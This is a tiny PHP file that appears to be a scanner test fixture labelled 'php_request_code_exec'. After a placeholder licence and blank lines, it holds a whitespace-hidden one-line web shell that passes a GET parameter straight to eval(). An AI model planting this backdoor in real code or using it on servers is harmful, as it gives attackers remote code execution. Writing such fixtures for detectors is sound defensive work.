<?php
// want: php_request_code_exec
/* a long licence block and many blank lines
 * ...
 */




                                                                  $x = $_GET['p'];                                    eval($x);
